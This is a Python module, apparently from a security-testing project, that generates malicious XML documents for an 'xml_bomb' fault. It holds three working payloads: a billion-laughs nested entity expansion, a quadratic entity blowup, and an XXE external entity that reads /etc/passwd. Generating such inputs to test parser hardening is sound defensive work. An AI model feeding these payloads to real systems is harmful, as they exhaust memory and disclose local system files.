# Copyright: appsec.perimeter contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""XML documents that harm a parser which obeys their DTD."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

_LEVELS = 9
VARIANTS = ("entities", "quadratic", "external")


def document(args: Mapping[str, Any]) -> bytes:
    """The document of an ``xml_bomb`` fault."""
    variant = str(args.get("variant", "entities"))
    root = str(args.get("root", "KNOWLEDGE_BASE_VULN_LIST_OUTPUT"))
    declared, used = _PARTS.get(variant, _nested)()
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} [\n{declared}]>\n'
        f"<{root}><RESPONSE><TEXT>{used}</TEXT></RESPONSE></{root}>"
    ).encode()


def _nested() -> tuple[str, str]:
    lines = ['<!ENTITY a0 "lol">\n']
    for level in range(1, _LEVELS + 1):
        lines.append(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">\n')
    return "".join(lines), f"&a{_LEVELS};"


def _quadratic() -> tuple[str, str]:
    return f'<!ENTITY a "{"x" * 50_000}">\n', "&a;" * 5_000


def _external() -> tuple[str, str]:
    return '<!ENTITY a SYSTEM "file:///etc/passwd">\n', "&a;"


_PARTS = {"entities": _nested, "quadratic": _quadratic, "external": _external}
